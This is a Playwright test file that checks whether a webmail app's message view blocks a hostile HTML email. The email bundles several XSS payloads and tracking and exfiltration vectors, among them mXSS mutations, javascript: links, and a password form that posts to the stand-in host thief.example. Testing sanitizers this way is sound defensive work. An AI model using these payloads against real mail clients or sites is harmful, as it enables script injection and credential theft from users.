import type { Browser, BrowserContext, Page } from 'playwright-core';
import { mailHouse, type House, type Person } from '../api/mail/house.js';
import { violations } from '../support/looks.js';
import { until } from '../support/servers.js';
import { browser, describeWithBrowser } from '../support/services.js';
import { signedIn } from '../support/signed-in.js';

/** Each tries to run `own()` in the page that shows it, to load something unasked, or to send something away. */
const attacks = [
  '<script>parent.own(1)</script>',
  '<img src=x onerror="parent.own(2)">',
  '<svg onload="parent.own(3)"><script>parent.own(3)</script></svg>',
  '<body onload="parent.own(4)">',
  '<a href="javascript:parent.own(5)" target="_self">press here</a>',
  '<a href=" java&#10;script:parent.own(6)">or here</a>',
  '<iframe srcdoc="&lt;script&gt;parent.parent.own(7)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.own(8)</script>"></object>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.own(9)&gt;"></table></mtext></math>',
  '<form action="https://thief.example/take"><input name="password" autofocus onfocus="parent.own(10)"><button>Go on</button></form>',
  '<details open ontoggle="parent.own(11)"><summary>more</summary></details>',
  '<meta http-equiv="refresh" content="0;url=https://thief.example/">',
  '<base href="https://thief.example/"><link rel="stylesheet" href="https://thief.example/a.css">',
  '<style>@import url(https://thief.example/b.css); body { background: url(https://thief.example/c.png) }</style>',
  '<div style="background-image:url(https://thief.example/d.png)">styled</div>',
  '<video src="https://thief.example/e.mp4" poster="https://thief.example/f.png" autoplay></video>',
  '<img src="https://thief.example/pixel.png" srcset="https://thief.example/g.png 2x">',
];

const mail = (html: string) => `From: Eve <eve@thief.example>
To: anna@kontor.example
Subject: Please have a look
Date: Mon, 02 Nov 2026 10:00:00 +0000
Message-ID: <hostile@thief.example>
Content-Type: text/html; charset=utf-8

<html><body><p>Nothing to see here.</p>${html}<p>The end of the mail.</p></body></html>
`;

describeWithBrowser('a hostile mail in the web app', () => {
  let house: House;
  let chromium: Browser;
  let anna: Person;
  let context: BrowserContext;
  let page: Page;
  let ran: unknown[];
  let strangers: string[];

  beforeAll(async () => {
    [house, chromium] = await Promise.all([mailHouse(), browser()]);
    anna = await house.user('Anna');
    await house.import(anna, [mail(attacks.join('\n'))]);
  });

  afterAll(async () => {
    await chromium?.close();
    await house?.close();
  });

  beforeEach(async () => {
    context = await signedIn(chromium, anna.token);
    strangers = [];
    await context.route(
      url => url.origin !== house.url,
      route => {
        strangers.push(route.request().url());
        return route.fulfill({ status: 200, contentType: 'image/png', body: '' });
      },
    );
    ran = [];
    page = await context.newPage();
    await page.exposeFunction('own', (which: unknown) => ran.push(which));
    const { thread } = await house.message('hostile@thief.example');
    await page.goto(`${house.url}/mail/${thread}?view=all`);
    await page.frameLocator('iframe').getByText('The end of the mail.').waitFor();
  });

  afterEach(() => context.close());

  it('runs nothing, loads nothing from elsewhere and leads nowhere', async () => {
    const inside = page.frameLocator('iframe');
    await inside.getByText('press here').click();
    await inside.getByText('or here').click();
    await page.waitForTimeout(300);

    // That `own` is there to be called is what makes its silence mean something.
    await page.evaluate('own("control")');
    expect(ran).toEqual(['control']);
    expect(strangers).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    expect(new URL(page.url()).origin).toBe(house.url);
    expect(
      await inside.locator('script, iframe, object, form, input, meta[http-equiv=refresh], base').count(),
    ).toBe(0);
  });

  it('keeps scripts out by its sandbox, whatever the sanitizer lets through', async () => {
    const sandbox = await page.locator('iframe').getAttribute('sandbox');
    expect(sandbox).not.toContain('allow-scripts');

    await page.locator('iframe').evaluate((frame: HTMLIFrameElement) => {
      const written = frame.contentDocument!.createElement('script');
      written.textContent = 'parent.own("written")';
      frame.contentDocument!.body.append(written);
      frame.contentDocument!.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="parent.own(0)">');
    });
    await page.waitForTimeout(300);

    expect(ran).toEqual([]);
  });

  it('loads the pictures once they are asked for, and only pictures', async () => {
    await page.getByRole('button', { name: 'Show images' }).click();
    await page.frameLocator('iframe').locator('img[src*="pixel"]').waitFor({ state: 'attached' });
    await until('the picture is asked for', () => strangers.includes('https://thief.example/pixel.png'));
    await page.waitForTimeout(300);

    expect(strangers.filter(url => !url.endsWith('.png'))).toEqual([]);
    expect(ran).toEqual([]);
  });

  it('leaves the page around it accessible', async () => {
    expect(await violations(page)).toEqual([]);
  });
});
